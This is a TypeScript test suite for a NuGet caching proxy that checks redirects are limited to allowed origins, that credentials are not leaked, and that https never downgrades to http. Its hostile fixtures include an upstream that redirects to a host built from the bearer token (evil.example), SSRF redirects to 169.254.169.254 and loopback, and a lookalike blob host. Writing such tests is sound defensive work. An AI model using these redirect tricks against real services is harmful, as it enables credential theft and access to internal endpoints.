// Issue #11 item 4: upstream redirects. Metadata follows redirects on the upstream's own origins only; a package
// download may also go to an origin redirects.allow matches, never with credentials, and to a loopback, private or
// link-local address only when that exact origin is listed. At most 5 hops, never https -> http.
import { lookup as dnsLookup } from 'node:dns';
import { mkdtemp, rm } from 'node:fs/promises';
import type { LookupFunction } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { UpstreamHttp } from '../../src/upstream/http-client.js';
import { auditCache } from '../support/cache-audit.js';
import { get } from '../support/http.js';
import { document } from '../support/hostile/metadata.js';
import { hopChain, redirectTo, startTarget, startTlsFeed, TARGET_MARKER, type RedirectTarget, type TlsFeed } from '../support/hostile/redirects.js';
import { startHostileUpstream, type HostileUpstream } from '../support/hostile/server.js';
import { createLogSink } from '../support/log-sink.js';
import { makeNupkg } from '../support/nupkg.js';
import { startNuproxy, type NuproxyProcess } from '../support/process.js';
import { startTestProxy, type TestProxy } from '../support/proxy.js';
import { redisServerPath, startRedis, type TestRedis } from '../support/redis.js';
import { redisKeys, redisValues } from '../support/redis-peek.js';

const FLAT = '/v3-flatcontainer/';
const TOKEN = 'upstream-bearer-token-0123456789';
/** Polls the cache (at most 5 s) until `key` is stored and sound. */
async function storedSoon(cacheDir: string, key: string): Promise<boolean> {
  const deadline = Date.now() + 5000;
  for (;;) {
    if ((await auditCache(cacheDir)).blobs.includes(key)) return true;
    if (Date.now() > deadline) return false;
    await new Promise((r) => setTimeout(r, 25));
  }
}

const refused = (upstream: string) => ({ error: 'upstream_host_not_allowed', message: expect.stringContaining('refused'), upstream });

describe('metadata redirects', () => {
  let hostile: HostileUpstream;
  let other: RedirectTarget; // 127.0.0.1, another port: another origin
  let v6: RedirectTarget; // [::1]
  let proxy: TestProxy;

  beforeAll(async () => {
    hostile = await startHostileUpstream();
    other = await startTarget('127.0.0.1');
    v6 = await startTarget('::1');
    proxy = await startTestProxy({
      upstreams: [
        // the targets are even in redirects.allow: that list is for package bytes, never for metadata
        { name: 'hostile', serviceIndex: hostile.serviceIndexUrl, retries: 0, auth: { type: 'bearer', tokenEnv: 'T_TOKEN' }, redirects: { allow: [other.origin, v6.origin, 'http://169.254.169.254'] } },
      ],
      env: { T_TOKEN: TOKEN },
    });
  });
  afterAll(async () => {
    await proxy?.stop();
    await Promise.all([hostile?.close(), other?.close(), v6?.close()]);
  });

  const targets = (): [string, () => string][] => [
    ['the same address on another port', () => `${other.origin}/index.json`],
    ['loopback by name', () => `${other.origin.replace('127.0.0.1', 'localhost')}/index.json`],
    ['[::1]', () => `${v6.origin}/index.json`],
    ['169.254.169.254', () => 'http://169.254.169.254/latest/meta-data/index.json'],
  ];

  it.each(targets())('a version list redirected to %s: 502 naming the upstream, the target never asked, nothing stored', async (_what, target) => {
    const id = `redir.${Math.random().toString(36).slice(2, 8)}`;
    hostile.on(`${FLAT}${id}/index.json`, redirectTo(target()));
    const r = await get(`${proxy.url}v3/flat/${id}/index.json`);
    expect(r.status).toBe(502);
    expect(r.json()).toEqual(refused('hostile'));
    expect(r.text).not.toContain(TARGET_MARKER);
    expect(other.requests).toEqual([]);
    expect(v6.requests).toEqual([]);
    // not stored: once the upstream answers itself, its answer is served
    hostile.on(`${FLAT}${id}/index.json`, document('{"versions":["2.0.0"]}'));
    expect((await get(`${proxy.url}v3/flat/${id}/index.json`)).json()).toEqual({ versions: ['2.0.0'] });
  });

  it('a redirect that echoes the credentials into the target name: refused, and the secret not in the answer', async () => {
    hostile.on(`${FLAT}echo.redir/index.json`, (req, res) => {
      const token = String(req.headers.authorization).replace(/^Bearer /, '');
      res.writeHead(302, { location: `http://${token}.evil.example/index.json`, 'content-length': '0' }).end();
    });
    const r = await get(`${proxy.url}v3/flat/echo.redir/index.json`);
    expect(r.status).toBe(502);
    expect(r.json()).toEqual(refused('hostile'));
    expect(`${JSON.stringify(r.headers)}${r.text}`).not.toContain(TOKEN);
    expect(proxy.logs.lines.map((l) => JSON.stringify(l)).join('\n')).not.toContain(TOKEN);
  });

  it('a registration index redirected off the upstream: 502, the target never asked', async () => {
    hostile.on(`${FLAT}redir.reg/index.json`, document('{"versions":["1.0.0"]}'));
    hostile.on('/v3/registration5-gz-semver2/redir.reg/index.json', redirectTo(`${other.origin}/index.json`));
    const r = await get(`${proxy.url}v3/registration/semver2/redir.reg/index.json`);
    expect(r.status).toBe(502);
    expect(r.json()).toEqual(refused('hostile'));
    expect(other.requests).toEqual([]);
  });

  it('a redirect on the upstream\'s own origin is followed, with its credentials', async () => {
    hostile.on(`${FLAT}moved.lib/index.json`, redirectTo('/moved/moved.lib.json', 301));
    hostile.on('/moved/moved.lib.json', document('{"versions":["1.2.3"]}'));
    const r = await get(`${proxy.url}v3/flat/moved.lib/index.json`);
    expect(r.status).toBe(200);
    expect(r.json()).toEqual({ versions: ['1.2.3'] });
    const moved = hostile.requests.find((q) => q.path === '/moved/moved.lib.json');
    expect(moved?.headers.authorization).toBe(`Bearer ${TOKEN}`);
  });

  it('follows 5 redirects, refuses a 6th', async () => {
    hostile.on(/^\/hop\//, hopChain);
    hostile.on('/final/five.json', document('{"versions":["5.0.0"]}'));
    hostile.on('/final/six.json', document('{"versions":["6.0.0"]}'));
    // the first answer redirects to /hop/3 (1), then /hop/2, /hop/1, /hop/0 (4), then /final (5)
    hostile.on(`${FLAT}five.lib/index.json`, redirectTo('/hop/3/final/five.json'));
    hostile.on(`${FLAT}six.lib/index.json`, redirectTo('/hop/4/final/six.json'));
    const five = await get(`${proxy.url}v3/flat/five.lib/index.json`);
    expect(five.status).toBe(200);
    expect(five.json()).toEqual({ versions: ['5.0.0'] });
    const six = await get(`${proxy.url}v3/flat/six.lib/index.json`);
    expect(six.status).toBe(502);
    expect(six.json()).toEqual({ error: 'upstream_bad_response', message: expect.stringContaining('more than 5 times'), upstream: 'hostile' });
    expect(hostile.hits('/final/six.json')).toBe(0);
  });
});

describe('package redirects', () => {
  let hostile: HostileUpstream;
  let blob: RedirectTarget; // listed exactly in redirects.allow
  let unlisted: RedirectTarget; // the same address, another port
  let v6: RedirectTarget;
  let proxy: TestProxy;
  const nupkg = (id: string) => makeNupkg({ id, version: '1.0.0', description: `package ${id}` });

  beforeAll(async () => {
    hostile = await startHostileUpstream();
    [blob, unlisted, v6] = await Promise.all([startTarget('127.0.0.1'), startTarget('127.0.0.1'), startTarget('::1')]);
    proxy = await startTestProxy({
      upstreams: [
        {
          name: 'hostile',
          serviceIndex: hostile.serviceIndexUrl,
          retries: 0,
          auth: { type: 'bearer', tokenEnv: 'T_TOKEN' },
          redirects: { allow: ['https://*.blob.core.windows.net', blob.origin] },
        },
      ],
      env: { T_TOKEN: TOKEN },
    });
  });
  afterAll(async () => {
    await proxy?.stop();
    await Promise.all([hostile?.close(), blob?.close(), unlisted?.close(), v6?.close()]);
  });

  /** The upstream lists `id` 1.0.0 and redirects its .nupkg to `location`. */
  function redirectPackage(id: string, location: string): string {
    hostile.on(`${FLAT}${id}/index.json`, document('{"versions":["1.0.0"]}'));
    hostile.on(`${FLAT}${id}/1.0.0/${id}.1.0.0.nupkg`, redirectTo(location));
    return `${proxy.url}v3/flat/${id}/1.0.0/${id}.1.0.0.nupkg`;
  }

  it('a .nupkg redirected to an origin redirects.allow lists is downloaded, stored, and the target never gets credentials', async () => {
    const bytes = nupkg('blob.lib');
    blob.serve('/blobs/blob.lib.nupkg', bytes);
    const url = redirectPackage('blob.lib', `${blob.origin}/blobs/blob.lib.nupkg?sig=abc`);
    const r = await get(url);
    expect(r.status).toBe(200);
    expect(Buffer.compare(r.body, Buffer.from(bytes))).toBe(0);
    // stored once the download has been checked and committed (just after the client got its last byte)
    expect(await storedSoon(proxy.cacheDir, 'packages/blob.lib/1.0.0/blob.lib.1.0.0.nupkg')).toBe(true);
    // the upstream got its credentials; the blob host got none
    expect(hostile.requests.find((q) => q.path.endsWith('blob.lib.1.0.0.nupkg'))?.headers.authorization).toBe(`Bearer ${TOKEN}`);
    expect(blob.requests).toHaveLength(1);
    expect(blob.requests[0]!.headers.authorization).toBeUndefined();
    expect(JSON.stringify(blob.requests[0]!.headers)).not.toContain(TOKEN);
    // and a second client is served from the cache
    expect((await get(url)).headers['x-nuproxy-cache']).toBe('hit');
    expect(blob.requests).toHaveLength(1);
  });

  it.each([
    ['the same address on another port (another origin)', () => `${unlisted.origin}/blobs/x.nupkg`],
    ['loopback by name', () => `${blob.origin.replace('127.0.0.1', 'localhost')}/blobs/x.nupkg`],
    ['[::1]', () => `${v6.origin}/blobs/x.nupkg`],
    ['169.254.169.254', () => 'http://169.254.169.254/latest/meta-data/x.nupkg'],
    ['a lookalike of an allowed host', () => 'https://evil.blob.core.windows.net.example.org/x.nupkg'],
  ])('a .nupkg redirected to %s (not listed): 502 naming the upstream, the target never asked, nothing stored', async (_what, target) => {
    const id = `pkg.${Math.random().toString(36).slice(2, 8)}`;
    unlisted.serve('/blobs/x.nupkg', nupkg(id));
    v6.serve('/blobs/x.nupkg', nupkg(id));
    const r = await get(redirectPackage(id, target()));
    expect(r.status).toBe(502);
    expect(r.json()).toEqual(refused('hostile'));
    expect(unlisted.requests).toEqual([]);
    expect(v6.requests).toEqual([]);
    const audit = await auditCache(proxy.cacheDir);
    expect(audit.blobs.filter((b) => b.includes(id))).toEqual([]);
    expect(audit.problems).toEqual([]);
  });
});

describe('a wildcard-allowed name that resolves to a private address', () => {
  let hostile: HostileUpstream;
  let target: RedirectTarget;
  const port = (): string => new URL(target.origin).port;
  /** Names under .redirect.test resolve as the test says (the rest as usual): a DNS the test controls. */
  const resolveTo = (address: string, family: 4 | 6): LookupFunction => (hostname, options, callback) => {
    if (!hostname.endsWith('.redirect.test')) return dnsLookup(hostname, options, callback);
    if (options.all) callback(null, [{ address, family }]);
    else callback(null, address, family);
  };
  const client = (allow: string[], lookup: LookupFunction): UpstreamHttp => {
    const http = new UpstreamHttp({ name: 'feed', timeouts: { connect: 2000, headers: 2000, body: 2000 }, retries: 0, userAgent: 'test', logger: createLogSink().logger, redirectAllow: allow, lookup });
    http.allowOrigin(hostile.origin);
    return http;
  };

  beforeAll(async () => {
    hostile = await startHostileUpstream();
    target = await startTarget('127.0.0.1');
    target.serve('/x.nupkg', Buffer.from('PK\x03\x04 package bytes'));
    hostile.on('/pkg.nupkg', redirectTo(() => `http://blob.redirect.test:${port()}/x.nupkg`));
  });
  afterAll(async () => {
    await Promise.all([hostile?.close(), target?.close()]);
  });

  it.each([
    ['127.0.0.1', 4],
    ['::ffff:10.0.0.1', 6],
    ['169.254.169.254', 4],
  ] as const)('resolving to %s: refused at connect time, the address never connected to', async (address, family) => {
    const http = client([`http://*.redirect.test:${port()}`], resolveTo(address, family));
    try {
      await expect(http.request(`${hostile.origin}/pkg.nupkg`, { kind: 'package' })).rejects.toMatchObject({ code: 'UPSTREAM_HOST_NOT_ALLOWED', details: { upstream: 'feed' } });
      expect(target.requests).toEqual([]);
    } finally {
      await http.close();
    }
  });

  it('the same name listed as that exact origin may be private: it is connected to', async () => {
    const http = client([`http://blob.redirect.test:${port()}`], resolveTo('127.0.0.1', 4));
    try {
      const res = await http.request(`${hostile.origin}/pkg.nupkg`, { kind: 'package' });
      expect(res.status).toBe(200);
      expect(await res.body.text()).toBe('PK\x03\x04 package bytes');
      expect(target.requests).toHaveLength(1);
    } finally {
      await http.close();
    }
  });
});

describe('https to http', () => {
  let dir: string;
  let feed: TlsFeed;
  let plain: RedirectTarget;
  let proc: NuproxyProcess;

  beforeAll(async () => {
    dir = await mkdtemp(join(tmpdir(), 'nuproxy-redirect-tls-'));
    feed = await startTlsFeed(dir);
    plain = await startTarget('127.0.0.1');
    plain.serve('/x.nupkg', makeNupkg({ id: 'tls.pkg', version: '1.0.0' }));
    proc = await startNuproxy(
      dir,
      'tls',
      { cache: { dir: join(dir, 'cache') }, upstreams: [{ name: 'tls', serviceIndex: feed.serviceIndexUrl, retries: 0, redirects: { allow: [plain.origin] } }] },
      [],
      { NODE_EXTRA_CA_CERTS: feed.caFile },
    );
  });
  afterAll(async () => {
    await proc?.stop();
    await Promise.all([feed?.close(), plain?.close()]);
    if (dir) await rm(dir, { recursive: true, force: true });
  });

  it('an https upstream redirecting to http is refused, for metadata and for an allowed package origin; https to https works', async () => {
    feed.on(`${FLAT}tls.ok/index.json`, (_req, res) => res.writeHead(302, { location: '/moved/tls.ok.json' }).end());
    feed.on('/moved/tls.ok.json', (_req, res) => res.writeHead(200, { 'content-type': 'application/json' }).end('{"versions":["1.0.0"]}'));
    const ok = await get(`${proc.url}v3/flat/tls.ok/index.json`);
    expect(ok.status).toBe(200);
    expect(ok.json()).toEqual({ versions: ['1.0.0'] });

    feed.on(`${FLAT}tls.down/index.json`, (_req, res, origin) => res.writeHead(302, { location: `${origin.replace('https:', 'http:')}/moved/tls.ok.json` }).end());
    const down = await get(`${proc.url}v3/flat/tls.down/index.json`);
    expect(down.status).toBe(502);
    expect(down.json()).toEqual({ error: 'upstream_bad_response', message: expect.stringContaining('from https to http'), upstream: 'tls' });

    feed.on(`${FLAT}tls.pkg/index.json`, (_req, res) => res.writeHead(200, { 'content-type': 'application/json' }).end('{"versions":["1.0.0"]}'));
    feed.on(`${FLAT}tls.pkg/1.0.0/tls.pkg.1.0.0.nupkg`, (_req, res) => res.writeHead(302, { location: `${plain.origin}/x.nupkg` }).end());
    const pkg = await get(`${proc.url}v3/flat/tls.pkg/1.0.0/tls.pkg.1.0.0.nupkg`);
    expect(pkg.status).toBe(502);
    expect(pkg.json()).toEqual({ error: 'upstream_bad_response', message: expect.stringContaining('from https to http'), upstream: 'tls' });
    expect(plain.requests).toEqual([]);
    expect((await auditCache(join(dir, 'cache'))).blobs).toEqual([]);
  });
});

describe.skipIf(redisServerPath() === undefined)('a refused redirect with metadata in Redis', () => {
  let redis: TestRedis;
  let hostile: HostileUpstream;
  let other: RedirectTarget;
  let proxy: TestProxy;

  beforeAll(async () => {
    redis = await startRedis();
    hostile = await startHostileUpstream();
    other = await startTarget('127.0.0.1');
    proxy = await startTestProxy({ upstreams: [{ name: 'hostile', serviceIndex: hostile.serviceIndexUrl, retries: 0 }], config: { cache: { metadata: redis.url } } });
  });
  afterAll(async () => {
    await proxy?.stop();
    await Promise.all([hostile?.close(), other?.close()]);
    await redis?.stop();
  });

  it('leaves nothing from the target in Redis', async () => {
    hostile.on(`${FLAT}redis.redir/index.json`, redirectTo(`${other.origin}/index.json`));
    const r = await get(`${proxy.url}v3/flat/redis.redir/index.json`);
    expect(r.status).toBe(502);
    expect(other.requests).toEqual([]);
    const keys = await redisKeys(redis.port);
    // the service index is stored (it is the upstream's own); nothing for the redirected id, nothing of the target's
    expect(keys.some((k) => k.includes('svc:hostile'))).toBe(true);
    expect(keys.filter((k) => k.includes('redis.redir'))).toEqual([]);
    for (const v of await redisValues(redis.port, keys)) expect(v).not.toContain(TARGET_MARKER);
  });
});
